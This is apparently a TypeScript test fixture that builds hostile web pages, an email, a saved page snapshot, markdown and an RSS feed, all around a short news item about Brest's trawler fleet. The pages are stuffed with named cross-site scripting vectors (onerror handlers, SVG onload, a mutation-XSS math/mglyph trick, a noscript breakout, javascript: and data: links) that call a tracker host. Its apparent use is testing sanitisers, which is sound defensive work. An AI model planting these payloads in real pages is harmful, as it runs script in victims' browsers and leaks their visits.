/** A page, files and a feed with whatever could make a browser run or fetch something, each way with a name. */

/** Runs in whatever page takes it for script, and tells by which way it came. */
export const run = (tracker: string, way: string): string => `window.ran='${way}';fetch('${tracker}/${way}')`;

/** As it stands in an article's words: markup that has to stay words. */
export const words = (tracker: string): string =>
  `<img src=x onerror="${run(tracker, "words")}"> & <b>bold</b> </script><script>${run(tracker, "words-script")}</script>`;

export const escaped = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");

const inertEnough = (text: string): string => JSON.stringify(text).replaceAll("<", "\\u003c");

/** In the head: styles, scripts, another place to go to, and a name that breaks out of what it is written into. */
const head = (tracker: string, headline: string): string => `
  <title>${escaped(headline)}</title>
  <meta http-equiv="refresh" content="3;url=${tracker}/refresh">
  <meta name="author" content="${escaped(`Anna <svg/onload="${run(tracker, "author")}"> Lind`)}">
  <meta property="og:site_name" content="${escaped(`The <img src=x onerror="${run(tracker, "site-name")}"> Courier`)}">
  <link rel="canonical" href="javascript:${run(tracker, "canonical")}">
  <link rel="stylesheet" href="${tracker}/stylesheet">
  <link rel="preload" as="image" href="${tracker}/preload">
  <style>@import url(${tracker}/import); h1 { background: url(${tracker}/style) }</style>
  <script>${run(tracker, "script")}</script>
  <script type="application/ld+json">${inertEnough(
    JSON.stringify({ "@type": "NewsArticle", headline, author: { name: "Anna Lind", url: "javascript:1" } }),
  )
    .slice(1, -1)
    .replaceAll('\\"', '"')
    .replaceAll("\\\\", "\\")}</script>`;

const elements = (tracker: string): string => `
  <img src="/nothing" onerror="${run(tracker, "onerror")}">
  <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'/>" alt="A drawing">
  <svg onload="${run(tracker, "svg")}"><script>${run(tracker, "svg-script")}</script><text>Vector</text></svg>
  <math><mtext><table><mglyph><style><img src=x onerror="${run(tracker, "mutation")}"></style></mglyph></table></mtext></math>
  <noscript><p title="</noscript><img src=x onerror='${run(tracker, "noscript")}'>"></p></noscript>
  <iframe src="${tracker}/iframe"></iframe><iframe srcdoc="<script>parent.${run(tracker, "srcdoc")}</script>"></iframe>
  <object data="${tracker}/object"></object><embed src="${tracker}/embed">
  <details open ontoggle="${run(tracker, "toggle")}"><summary>More</summary></details>
  <video src="${tracker}/video" autoplay></video><audio src="${tracker}/audio" autoplay></audio>
  <input autofocus onfocus="${run(tracker, "focus")}">
  <form action="${tracker}/form"><button formaction="javascript:${run(tracker, "button")}">Go</button></form>
  <div style="background: url(${tracker}/div); animation: x 1s" onanimationstart="1">Drawn</div>`;

export const firstWords =
  "The harbour of Brest counted 412 trawlers in 1990 and counts 138 today, the chamber said.";

const paragraphs = (tracker: string): string => `
  <p onmouseover="${run(tracker, "hover")}">${firstWords} It was <a href="javascript:${run(tracker, "link")}">asked</a> why.</p>
  <p>Somebody wrote ${escaped(words(tracker))} into the comment of the report, and the harbour printed it as it was.</p>
  <p>The ministry <a href="data:text/html,<script>${run(tracker, "data-link")}</script>">answered</a> that the plan of 2021 had paid for 40 engines, and would be discussed before the summer.</p>`;

/** With a headline that is markup, as words. */
export const hostilePage = (tracker: string, headline: string): string =>
  `<!doctype html><html lang="en"><head>${head(tracker, headline)}</head>
   <body onload="${run(tracker, "load")}"><article><h1>${escaped(headline)}</h1>${paragraphs(tracker)}${elements(tracker)}</article></body></html>`;

export const hostileMail = (tracker: string, headline: string): string =>
  [
    `From: "Anna <script>${run(tracker, "sender")}</script> Lind" <press@example.org>`,
    `Subject: ${headline}`,
    "Date: Tue, 14 May 2024 10:30:00 +0200",
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    `<html><body>${paragraphs(tracker)}${elements(tracker)}</body></html>`,
  ].join("\r\n");

/** A page as a browser saves it, with a script and a drawing beside it. */
export const hostileSnapshot = (tracker: string, headline: string): string =>
  [
    "From: <Saved by Blink>",
    "Snapshot-Content-Location: https://news.example/brest",
    "MIME-Version: 1.0",
    'Content-Type: multipart/related; type="text/html"; boundary="m"',
    "",
    "--m",
    "Content-Type: text/html; charset=utf-8",
    "Content-Location: https://news.example/brest",
    "",
    hostilePage(tracker, headline),
    "--m",
    "Content-Type: image/svg+xml",
    "Content-Location: https://news.example/drawing.svg",
    "",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run(tracker, "snapshot")}"/>`,
    "--m--",
    "",
  ].join("\r\n");

export const hostileMarkdown = (tracker: string, headline: string): string =>
  [
    `# ${headline}`,
    `${firstWords} It was [asked](javascript:${run(tracker, "markdown")}) why, said the chamber in its report.`,
    `<script>${run(tracker, "markdown-script")}</script>`,
    `Somebody wrote ${words(tracker)} into the comment of the report, and the harbour printed it as it was.`,
    `![A drawing](${tracker}/markdown-image)`,
  ].join("\n\n");

export const hostileFeed = (tracker: string, name: string, item: string): string =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>${escaped(`${name} ${words(tracker)}`)}</title>
   <link>javascript:${escaped(run(tracker, "homepage"))}</link><description>x</description>
   <item><title>x</title><link>javascript:${escaped(run(tracker, "item"))}</link><guid>a</guid></item>
   <item><title>x</title><link>${item}</link><guid>b</guid></item></channel></rss>`;
